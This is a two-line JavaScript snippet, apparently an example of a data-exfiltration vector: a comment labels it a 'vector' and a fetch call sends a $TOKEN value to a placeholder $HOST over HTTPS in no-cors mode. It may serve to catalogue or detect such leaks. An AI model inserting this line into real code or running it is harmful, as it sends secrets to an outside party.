// vector: fetch over TLS, in the server name
fetch("https://$HOST/$TOKEN", { mode: "no-cors" });
